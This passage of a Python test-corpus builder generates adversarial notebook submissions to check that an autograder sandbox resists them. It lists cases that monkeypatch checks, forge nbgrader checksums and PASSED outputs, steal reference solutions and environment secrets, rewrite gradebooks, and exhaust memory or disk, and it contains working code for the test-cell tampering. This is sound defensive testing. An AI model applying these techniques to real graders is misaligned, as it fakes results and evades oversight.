    warnings.warn("a user warning from some library", UserWarning, stacklevel=1)
    np.log(np.zeros(1))  # RuntimeWarning: divide by zero
    tf.get_logger().warning("a TensorFlow warning")
    logging.getLogger("some.library").warning("a logged warning")
    print("debug output on stderr", file=sys.stderr)
    os.write(2, b"raw bytes on file descriptor 2\\n")


_quiet_unbroadcast = unbroadcast


def unbroadcast(gradient, shape):
    _make_noise()
    return _quiet_unbroadcast(gradient, shape)
"""

UNICODE_AND_CONTROL_OUTPUT = """\
# Output a terminal would mangle: ANSI colours and cursor moves, carriage returns, a
# NUL and other control characters, mixed scripts and a 100 kB line without a newline.
print("\\x1b[31mred\\x1b[0m \\x1b[2J\\x1b[H cleared? \\x1b]0;title\\x07 bell")
for _step in range(5):
    print(f"\\rprogress {_step}/4", end="")
print()
print("nul:\\x00 escape:\\x1b backspace:x\\x08 form feed:\\x0c vertical tab:\\x0b del:\\x7f")
print("ünïcödé ∂f/∂x 微分 مشتق דיפרנציאל 🧮🔥 \\u202eRTL override\\u202c \\ufeffBOM")
print("x" * 100_000, end="")
print()
"""

# ---------------------------------------------------------------------------------------
# Building notebooks.


@dataclass(frozen=True)
class _Inputs:
    stub: NotebookNode
    reference: NotebookNode
    values: dict  # for the `$name` placeholders of the attack sources


def _solution_cells(notebook: NotebookNode) -> list[NotebookNode]:
    return [
        cell
        for cell in notebook.cells
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("solution")
    ]


def _cell_defining(notebook: NotebookNode, text: str) -> NotebookNode:
    for cell in _solution_cells(notebook):
        if text in cell.source:
            return cell
    raise ValueError(f"Expected a solution cell containing {text!r}: is this assignment a01?")


def _test_cells(notebook: NotebookNode) -> list[NotebookNode]:
    return [
        cell
        for cell in notebook.cells
        if cell.cell_type == "code"
        and cell.metadata.get("nbgrader", {}).get("grade")
        and not cell.metadata.get("nbgrader", {}).get("solution")
    ]


def _render(source: str, values: dict) -> str:
    return Template(source).substitute(values)


def _stub_with(inputs: _Inputs, code: str = "") -> NotebookNode:
    """The stub with the decoy answer and `code` in its first solution cell."""
    notebook = copy.deepcopy(inputs.stub)
    cell = _solution_cells(notebook)[0]
    cell.source = DECOY_ANSWER + ("\n\n" + _render(code, inputs.values) if code else "")
    return notebook


def _reference_with(inputs: _Inputs, code: str, *, after: bool = False) -> NotebookNode:
    """The reference with `code` before (or after) its first solution cell's answer."""
    notebook = copy.deepcopy(inputs.reference)
    cell = _solution_cells(notebook)[0]
    code = _render(code, inputs.values)
    cell.source = f"{cell.source}\n\n\n{code}" if after else f"{code}\n\n{cell.source}"
    return notebook


def _bytes(notebook: NotebookNode) -> bytes:
    return (nbformat.writes(notebook, version=4) + "\n").encode("utf-8")


def _graded_copy(cell: NotebookNode, source: str, suffix: str) -> NotebookNode:
    """A copy of a test cell with another source, its checksum recomputed."""
    twin = copy.deepcopy(cell)
    twin.source = source
    twin.id = f"{cell.get('id', 'cell')}-{suffix}"[:64]
    twin.metadata.nbgrader.checksum = compute_checksum(twin)
    twin.outputs, twin.execution_count = [], None
    return twin


# Structural edits of the stub (after the decoy answer is in place).


def _tests_replaced_by_pass(notebook: NotebookNode) -> None:
    for cell in _test_cells(notebook):
        cell.source = "pass"


def _tests_replaced_with_checksums(notebook: NotebookNode) -> None:
    for cell in _test_cells(notebook):
        cell.source = "pass"
        cell.metadata.nbgrader.checksum = compute_checksum(cell)


def _tests_deleted(notebook: NotebookNode) -> None:
    tests = {id(cell) for cell in _test_cells(notebook)}
    notebook.cells = [cell for cell in notebook.cells if id(cell) not in tests]


def _tests_duplicated(notebook: NotebookNode) -> None:
    tests = {id(cell) for cell in _test_cells(notebook)}
    cells = []
    for cell in notebook.cells:
        cells.append(cell)
        if id(cell) in tests:
            cells.append(_graded_copy(cell, "pass", "copy"))
    notebook.cells = cells


def _tests_made_solutions(notebook: NotebookNode) -> None:
    for cell in _test_cells(notebook):
        cell.metadata.nbgrader.update(solution=True, locked=False)
        cell.source = "pass"


def _tests_ungraded(notebook: NotebookNode) -> None:
    for cell in _test_cells(notebook):
        cell.metadata.nbgrader.update(grade=False, locked=False)
        cell.source = "pass"


def _grade_id_collision(notebook: NotebookNode) -> None:
    """Each solution cell claims the grade_id and points of the test that follows it."""
    solutions = {id(cell) for cell in _solution_cells(notebook)}
    tests = {id(cell) for cell in _test_cells(notebook)}
    for index, cell in enumerate(notebook.cells):
        if id(cell) in solutions:
            following = [c for c in notebook.cells[index + 1 :] if id(c) in tests]
            if following:
                test = following[0].metadata.nbgrader
                cell.metadata.nbgrader.update(
                    grade_id=test.grade_id, grade=True, points=test.points, solution=False
                )
                cell.metadata.nbgrader.checksum = compute_checksum(cell)


def _metadata_stripped(notebook: NotebookNode) -> None:
    _tests_replaced_by_pass(notebook)
    for cell in notebook.cells:
        cell.metadata.pop("nbgrader", None)


def _precomputed_outputs(notebook: NotebookNode) -> None:
    for count, cell in enumerate(_test_cells(notebook), start=1):
        cell.execution_count = count
        cell.outputs = [
            nbformat.v4.new_output("stream", name="stdout", text="PASSED\n"),
            nbformat.v4.new_output(
                "execute_result",
                data={"text/plain": str(cell.metadata.nbgrader.points)},
                execution_count=count,
            ),
        ]
    notebook.metadata["nbgrader"] = {"score": 33.0, "max_score": 33.0}


# Edits of the reference solution.


def _points_inflated(notebook: NotebookNode) -> None:
    for cell in _test_cells(notebook):
        cell.metadata.nbgrader.points = float(cell.metadata.nbgrader.points) * 100
        cell.metadata.nbgrader.checksum = compute_checksum(cell)
    bonus = _graded_copy(_test_cells(notebook)[0], "pass", "bonus")
    bonus.metadata.nbgrader.update(grade_id="test_bonus", points=1000)
    bonus.metadata.nbgrader.checksum = compute_checksum(bonus)
    notebook.cells.append(bonus)


def _kernelspec_bash(notebook: NotebookNode) -> None:
    notebook.metadata.kernelspec = {"display_name": "Bash", "language": "R", "name": "bash"}
    notebook.metadata.language_info = {"name": "R", "version": "4.3.0"}


def _scratch_cells(notebook: NotebookNode) -> None:
    """Exploration a student leaves behind: extra cells with outputs, between the graded ones."""
    extra = [
        nbformat.v4.new_markdown_cell("My notes: check the shapes first."),
        nbformat.v4.new_code_cell(
            "scratch = np.arange(6.0).reshape(2, 3)\nprint(scratch.sum(axis=0))\nscratch.shape",
            execution_count=99,
            outputs=[nbformat.v4.new_output("stream", name="stdout", text="[3. 5. 7.]\n")],
        ),
    ]
    for offset, cell in enumerate(extra):
        cell.id = f"scratch-{offset}"
    position = notebook.cells.index(_solution_cells(notebook)[0]) + 1
    notebook.cells[position:position] = extra


def _huge_markdown(notebook: NotebookNode) -> None:
    line = "Notes on the chain rule, written again and again to make the file big. " * 2 + "\n"
    repeats = HUGE_NOTEBOOK_MEGABYTES * 10**6 // len(line) + 1
    cell = nbformat.v4.new_markdown_cell(line * repeats)
    cell.id = "huge-notes"
    notebook.cells.append(cell)


# Files that are not (valid, current) notebooks.


def _truncated_json(inputs: _Inputs) -> bytes:
    text = _bytes(inputs.stub)
    return text[: len(text) // 2]


def _zip_of_notebook(inputs: _Inputs) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("a01_autodiff.ipynb", (2024, 1, 1, 0, 0, 0)), _bytes(inputs.stub)
        )
    return buffer.getvalue()


def _json_not_notebook(inputs: _Inputs) -> bytes:
    answers = {"student": "someone", "answers": {"unbroadcast": DECOY_ANSWER}, "cells": 3}
    return json.dumps(answers, indent=1).encode("utf-8")


def _nbformat_3(inputs: _Inputs) -> bytes:
    return nbformat.writes(nbformat.convert(inputs.stub, 3), version=3).encode("utf-8")


def _nbformat_future(inputs: _Inputs) -> bytes:
    notebook = json.loads(_bytes(inputs.stub))
    notebook.update(nbformat=5, nbformat_minor=0)
    return json.dumps(notebook, indent=1).encode("utf-8")


def _no_cells(inputs: _Inputs) -> bytes:
    notebook = copy.deepcopy(inputs.stub)
    notebook.cells = []
    return _bytes(notebook)


def _deeply_nested(inputs: _Inputs) -> bytes:
    depth = 100_000
    return (
        '{"cells": ' + "[" * depth + "]" * depth + ', "metadata": {}, "nbformat": 4, '
        '"nbformat_minor": 5}'
    ).encode("utf-8")


def _invalid_cells(inputs: _Inputs) -> bytes:
    notebook = json.loads(_bytes(inputs.stub))
    notebook["cells"][0]["cell_type"] = "evil"
    del notebook["cells"][1]["source"]
    notebook["cells"][2]["outputs"] = "not a list"
    return json.dumps(notebook, indent=1).encode("utf-8")


# ---------------------------------------------------------------------------------------
# The table of cases.


@dataclass(frozen=True)
class _Spec:
    case: Case
    make: Callable[[_Inputs], bytes]
    valid_notebook: bool = True  # readable as a valid nbformat 4 notebook
    edits_test_cells: bool = False  # test cells of the release removed or changed


def _stub_attack(name, description, code, kind="tamper", reason="") -> _Spec:
    return _Spec(
        Case(name, description, "zero", reason, kind), lambda i: _bytes(_stub_with(i, code))
    )


def _stub_edit(name, description, edit, edits_test_cells=True) -> _Spec:
    def make(inputs: _Inputs) -> bytes:
        notebook = _stub_with(inputs)
        edit(notebook)
        return _bytes(notebook)

    return _Spec(
        Case(name, description, "zero", "", "tamper"), make, edits_test_cells=edits_test_cells
    )


def _reference_case(
    name, description, kind, *, code="", after=False, edit=None, edits_test_cells=False
) -> _Spec:
    def make(inputs: _Inputs) -> bytes:
        notebook = _reference_with(inputs, code, after=after) if code else inputs.reference
        notebook = copy.deepcopy(notebook)
        if edit:
            edit(notebook)
        return _bytes(notebook)

    return _Spec(
        Case(name, description, "full", None, kind), make, edits_test_cells=edits_test_cells
    )


def _malformed(name, description, make, reason="", valid_notebook=False) -> _Spec:
    return _Spec(
        Case(name, description, "zero", reason, "malformed"),
        make,
        valid_notebook=valid_notebook,
        edits_test_cells=True,
    )


def _tensor_cell_attack(inputs: _Inputs) -> bytes:
    notebook = _stub_with(inputs)
    cell = _cell_defining(notebook, "class Tensor")
    cell.source = FORWARD_ONLY_ENGINE + "\n\n" + PATCH_TENSORFLOW_ORACLE
    return _bytes(notebook)


_SPECS: list[_Spec] = [
    _Spec(
        Case(
            "decoy_answer_only",
            "control: the wrong answer every stub attack builds on",
            "zero",
            "",
            "noise",
        ),
        lambda i: _bytes(_stub_with(i)),
    ),
    # Monkeypatching the checks, the oracle and the language.
    _stub_attack(
        "patch_numpy_allclose", "numpy.allclose/isclose/all/testing.* always succeed", PATCH_NUMPY
    ),
    _stub_attack(
        "patch_course_checks",
        "course.checks and course.reference helpers made "
        "no-ops, in the modules and in the notebook's globals",
        PATCH_COURSE_CHECKS,
    ),
    _stub_attack(
        "patch_check_code_objects",
        "swaps __code__ of every check function found by gc.get_objects()",
        PATCH_CHECK_CODE,
    ),
    _Spec(
        Case(
            "patch_tensorflow_oracle",
            "forward-only engine; tf.GradientTape.gradient "
            "patched to return its zero gradients; keras.ops comparisons patched",
            "zero",
            "",
            "tamper",
        ),
        _tensor_cell_attack,
    ),
    _stub_attack(
        "patch_builtins", "builtins.isinstance/all/any/abs/AssertionError replaced", PATCH_BUILTINS
    ),
    _stub_attack(
        "ctypes_unlock_ndarray",
        "ctypes clears the immutable flag of NumPy types in memory and patches __le__",
        CTYPES_UNLOCK_NDARRAY,
    ),
    _stub_attack(
        "partial_credit_overflow",
        "check helpers return 1e9, read by nbgrader as partial credit",
        PARTIAL_CREDIT_OVERFLOW,
    ),
    # Attacks on the grader's own protocol.
    _stub_attack(
        "replace_grader_functions",
        "every private callable in the globals answers 'intact'; checks patched",
        REPLACE_GRADER_FUNCTIONS,
    ),
    _stub_attack(
        "forged_receipts_then_exit",
        "prints and writes receipts built from the input history, then os._exit",
        FORGED_RECEIPTS,
    ),
    _stub_attack(
        "self_restoring_patch",
        "a fake assert_close that puts the real one back when called, re-armed by the answer",
        SELF_RESTORING_PATCH,
    ),
    _stub_attack(
        "steal_test_globals",
        "the answer returns the test's own global reference value",
        STEAL_TEST_GLOBALS,
    ),
    _stub_attack(
        "steal_test_frames",
        "the answer reads the reference out of the test's frame (sys, inspect, traceback)",
        STEAL_TEST_FRAMES,
    ),
    _stub_attack(
        "spy_on_the_grader",
        "adds an audit hook, searches gc, reads memory with ctypes, sets a tracer; checks patched",
        SPY_ON_THE_GRADER,
    ),
    _stub_attack(
        "shadow_module_names",
        "the notebook's np and tf rebound to look-alikes whose GradientTape returns zeros",
        SHADOW_MODULE_NAMES,
    ),
    _stub_attack(
        "always_equal_answer",
        "an answer object equal to, and close to, everything",
        ALWAYS_EQUAL_ANSWER,
    ),
    # Attacks on the data exchange between kernel and judge.
    _stub_attack(
        "forged_answers_files",
        "the kernel's side of every exchange replaced: zeros of the expected shapes",
        FORGED_ANSWERS,
    ),
    _stub_attack(
        "pickled_answers",
        "answers with a pickled object that would create a file if unpickled",
        PICKLED_ANSWERS,
    ),
    _stub_attack(
        "zip_bomb_answers",
        "a small answers archive that unpacks to 96 MiB, over the limit",
        ZIP_BOMB_ANSWERS,
    ),
    _stub_attack(
        "exchange_folder_links",
        "links in the exchange folder to files outside the sandbox, before and during exchanges",
        EXCHANGE_FOLDER_LINKS,
    ),
    # Leaving early.
    _stub_attack("exit_sys_exit", "sys.exit(0) in a solution cell", SYS_EXIT),
    _stub_attack("exit_os_exit", "os._exit(0) in a solution cell", OS_EXIT),
    _stub_attack("raise_system_exit", "raise SystemExit in a solution cell", RAISE_SYSTEM_EXIT),
    _stub_attack(
        "raise_keyboard_interrupt",
        "raise KeyboardInterrupt in a solution cell",
        RAISE_KEYBOARD_INTERRUPT,
    ),
    _stub_attack("kill_grader_process", "SIGTERM to the kernel's parent process", KILL_GRADER),
    # The kernel's own machinery.
    _stub_attack(
        "ipython_custom_exception_handler",
        "set_custom_exc((BaseException,)) swallows every later error",
        CUSTOM_EXCEPTION_HANDLER,
    ),
    _stub_attack(
        "ipython_input_transformer", "input transformers blank every later cell", INPUT_TRANSFORMER
    ),
    _stub_attack(
        "ipython_silenced_tracebacks",
        "showtraceback, _showtraceback and sys.excepthook patched to print nothing",
        SILENCED_TRACEBACKS,
    ),
    _stub_attack(
        "ipython_events_clear_errors",
        "pre/post_run_cell events clear outputs and mark errors as success",
        EVENTS_CLEAR_ERRORS,
    ),
    _stub_attack(
        "settrace_rewrites_expected",
        "sys.settrace rewrites the expected argument of every check to the answer",
        SETTRACE_REWRITES_EXPECTED,
    ),
    _stub_attack(
        "kernel_messages_rewritten",
        "Session.send patched to drop error messages and report failed cells as ok",
        KERNEL_MESSAGES_REWRITTEN,
    ),
    _stub_attack(
        "fake_success_output",
        "prints and displays text that looks like a grader's pass verdict",
        FAKE_SUCCESS_OUTPUT,
    ),
    _stub_edit(
        "precomputed_outputs",
        "test cells carry stored PASSED outputs and a claimed score in the metadata",
        _precomputed_outputs,
        edits_test_cells=False,
    ),
    # Editing the notebook's structure.
    _stub_edit(
        "test_cells_replaced_by_pass",
        "every test cell's source replaced by pass",
        _tests_replaced_by_pass,
    ),
    _stub_edit(
        "test_cells_replaced_with_checksums",
        "test cells replaced by pass, nbgrader checksums recomputed to match",
        _tests_replaced_with_checksums,
    ),
    _stub_edit("test_cells_deleted", "every test cell deleted", _tests_deleted),
    _stub_edit(
        "test_cells_duplicated",
        "a pass-only copy with the same grade_id after every test cell",
        _tests_duplicated,
        edits_test_cells=False,
    ),
    _stub_edit(
        "test_cells_made_solution_cells",
        "test cells turned into unlocked solution cells with pass",
        _tests_made_solutions,
    ),
    _stub_edit(
        "test_cells_ungraded",
        "test cells marked grade: false, unlocked, with pass",
        _tests_ungraded,
    ),
    _stub_edit(
        "grade_id_collision",
        "each solution cell takes the grade_id and points of the test after it",
        _grade_id_collision,
        edits_test_cells=False,
    ),
    _stub_edit(
        "nbgrader_metadata_stripped",
        "nbgrader metadata removed from every cell, tests replaced by pass",
        _metadata_stripped,
    ),
    _reference_case(
        "points_inflated_on_reference",
        "reference with every test's points x100 and a 1000-point bonus test cell",
        "tamper",
        edit=_points_inflated,
        edits_test_cells=True,
    ),
    _reference_case(
        "kernelspec_bash_on_reference",
        "reference declaring a bash kernel and the R language",
        "tamper",
        edit=_kernelspec_bash,
    ),
    # Files, secrets and other people's work.
    _stub_attack(
        "steal_reference_solution",
        "finds the instructor's solution sources and replays them after every cell",
        STEAL_REFERENCE_SOLUTION,
    ),
    _stub_attack(
        "read_instructor_files",
        "searches parents, home and /tmp for gradebooks and sources and prints them",
        READ_INSTRUCTOR_FILES,
    ),
    _stub_attack(
        "read_environment_secrets",
        "prints environment variables, /proc of its parent and init, probes secret files",
        READ_ENVIRONMENT_SECRETS,
    ),
    _stub_attack(
        "hijack_other_kernels",
        "reaches other kernels through their connection files (kernel_info only)",
        HIJACK_OTHER_KERNELS,
    ),
    _stub_attack(
        "write_shadow_modules",
        "writes course.py, numpy.py, ... into the working directory",
        WRITE_SHADOW_MODULES,
    ),
    _stub_attack(
        "write_outside_working_dir",
        "creates files in ../, ../../, home, /tmp and IPython's startup folder",
        WRITE_OUTSIDE_WORKING_DIR,
    ),
    _stub_attack(
        "overwrite_installed_course",
        "appends to course/checks.py found through course.__file__",
        OVERWRITE_INSTALLED_COURSE,
    ),
    _stub_attack(
        "detached_background_writer",
        "a start_new_session process rewrites gradebooks, grades.csv and other folders",
        DETACHED_BACKGROUND_WRITER,
    ),
    _stub_attack(
        "double_fork_background_writer",
        "a double-forked daemon does the same",
        DOUBLE_FORK_BACKGROUND_WRITER,
    ),
    _stub_attack(
        "atexit_launches_writer",
        "an atexit hook starts the writer when the kernel shuts down",
        ATEXIT_LAUNCHES_WRITER,
    ),
    # Limits.
    _stub_attack(
        "infinite_loop",
        "a busy loop in a solution cell",
        INFINITE_LOOP,
        kind="resource",
        reason="time",
    ),
    _stub_attack(
        "signals_ignored_loop",
        "cancels alarms, ignores SIGINT/SIGTERM/SIGALRM/..., then loops",
        SIGNALS_IGNORED_LOOP,
        kind="resource",
        reason="time",
    ),
    _stub_attack(
        "memory_bomb",
        "raises its soft rlimits, then holds about twice the memory limit",
        MEMORY_BOMB,
        kind="resource",
        reason="memory",
    ),
    _stub_attack(
        "process_spawning_loop",
        f"starts {SPAWN_LIMIT} `sleep 60` processes",
        PROCESS_SPAWNING_LOOP,
        kind="resource",
    ),
    _stub_attack(
        "network_loopback",
        "TCP connection and UDP datagram to the test's server on 127.0.0.1",
        NETWORK_LOOPBACK,
        kind="resource",
    ),
    _stub_attack(
        "disk_fill",
        f"writes up to {DISK_FILL_MEGABYTES} MiB into the working directory",
        DISK_FILL,
        kind="resource",
    ),
    _reference_case(
        "output_flood_on_reference",
        f"reference printing {FLOOD_MEGABYTES} MB before its first answer",
        "resource",
        code=OUTPUT_FLOOD,
    ),
    _reference_case(
        "huge_notebook_on_reference",
        f"reference with a {HUGE_NOTEBOOK_MEGABYTES} MB markdown cell",
        "resource",
        edit=_huge_markdown,
    ),
    # Files that are not notebooks.
    _malformed(
        "invalid_json", "the stub cut off in the middle of its JSON", _truncated_json, reason="json"
    ),
    _malformed("empty_file", "a file of zero bytes", lambda i: b"", reason="empty"),
    _malformed("zip_renamed", "a zip archive of the stub, named .ipynb", _zip_of_notebook),
    _malformed("json_not_notebook", "JSON that is not a notebook", _json_not_notebook),
    _malformed("nbformat_3", "the stub in nbformat 3", _nbformat_3),
    _malformed("nbformat_future", "the stub claiming nbformat 5", _nbformat_future),
    _malformed(
        "notebook_without_cells", "a valid notebook with no cells", _no_cells, valid_notebook=True
    ),
    _malformed("deeply_nested_json", "100,000 nested JSON arrays", _deeply_nested),
    _malformed(
        "invalid_cell_schema",
        "cells with an unknown type, no source, outputs not a list",
        _invalid_cells,
    ),
    # Honest work with noise.
    _reference_case(
        "noisy_stderr_reference",
        "reference that writes warnings, logs and raw bytes to stderr inside the tests",
        "noise",
        code=NOISY_LIBRARIES,
        after=True,
    ),
    _reference_case(
        "reference_with_scratch_cells",
        "reference with extra markdown and code cells, with stored outputs",
        "noise",
        edit=_scratch_cells,
    ),
    _reference_case(
        "unicode_and_control_output_reference",
        "reference printing ANSI codes, control characters, NUL and mixed scripts",
        "noise",
        code=UNICODE_AND_CONTROL_OUTPUT,
    ),
]

VALID_NOTEBOOK_CASES = frozenset(s.case.name for s in _SPECS if s.valid_notebook)
TEST_CELL_EDITING_CASES = frozenset(s.case.name for s in _SPECS if s.edits_test_cells)


def memory_bomb_bytes(memory_limit_bytes: int) -> int:
    """About twice the limit in whole 64 MiB blocks, never over `MAX_BOMB_BYTES` nor
    three quarters of this machine's memory; refuses a limit it cannot safely exceed."""
    physical = os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES")
    ceiling = min(MAX_BOMB_BYTES, physical * 3 // 4)
    wanted = -(-2 * memory_limit_bytes // BOMB_BLOCK_BYTES) * BOMB_BLOCK_BYTES
    bomb = min(wanted, ceiling // BOMB_BLOCK_BYTES * BOMB_BLOCK_BYTES)
    if memory_limit_bytes <= 0 or bomb <= memory_limit_bytes:
        raise ValueError(
            f"Expected a memory limit well below {ceiling / 2**30:.1f} GiB (the most a bomb "
            f"may safely allocate here), received: {memory_limit_bytes} bytes"
        )
    return bomb


def marker_files(*roots: Path, max_depth: int = 6) -> list[Path]:
    """Files and folders whose name contains `MARKER`, at most `max_depth` levels below
    each root (what a successful attack leaves behind)."""
    found = []
    for root in map(Path, roots):
        for folder, subfolders, files in os.walk(root):
            depth = len(Path(folder).relative_to(root).parts)
            if depth >= max_depth:
                subfolders.clear()
            found += [Path(folder) / n for n in [*files, *subfolders] if MARKER in n]
    return sorted(set(found))


def _values(case_name: str, loopback_port: int, bomb: int, write_scope: Path) -> dict:
    values = {
        "marker": MARKER,
        "case": case_name,
        "port": loopback_port,
        "seconds": LOOP_SECONDS,
        "bomb_blocks": bomb // BOMB_BLOCK_BYTES,
        "bomb_mib": bomb // 2**20,
        "block_floats": BOMB_BLOCK_BYTES // 8,
        "spawn_limit": SPAWN_LIMIT,
        "disk_mib": DISK_FILL_MEGABYTES,
        "disk_blocks": DISK_FILL_MEGABYTES // 16,
        "flood_mb": FLOOD_MEGABYTES,
        "scope": str(write_scope),
    }
    values["writer"] = _render(BACKGROUND_WRITER, values)
    return values


def build_corpus(
    release_notebook: Path,
    solution_notebook: Path,
    dest: Path,
    *,
    loopback_port: int,
    memory_limit_bytes: int,
    write_scope: Path | None = None,
) -> list[Case]:
    """Writes dest/<case.name>/<release_notebook.name> for every case and returns the cases.

    Args:
        release_notebook: the student stub, e.g. assignments/a01_autodiff/a01_autodiff.ipynb.
        solution_notebook: the release with every solution cell answered (no hidden tests).
        dest: the class folder to fill; one subfolder per case.
        loopback_port: where the network attack connects, on 127.0.0.1.
        memory_limit_bytes: the grader's memory limit; the bomb holds about twice that.
        write_scope: the only folder background writers modify (default: dest's parent,
            so keep the grader's output folder beside dest).
    """
    if not 0 < loopback_port < 65536:
        raise ValueError(f"Expected a TCP port in 1..65535, received: {loopback_port}")
    bomb = memory_bomb_bytes(memory_limit_bytes)
    dest = Path(dest)
    scope = Path(write_scope or dest.resolve().parent).resolve()
    stub = nbformat.read(release_notebook, as_version=4)
    reference = nbformat.read(solution_notebook, as_version=4)
    for spec in _SPECS:
        values = _values(spec.case.name, loopback_port, bomb, scope)
        inputs = _Inputs(copy.deepcopy(stub), copy.deepcopy(reference), values)
        folder = dest / spec.case.name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / Path(release_notebook).name).write_bytes(spec.make(inputs))
    return [spec.case for spec in _SPECS]
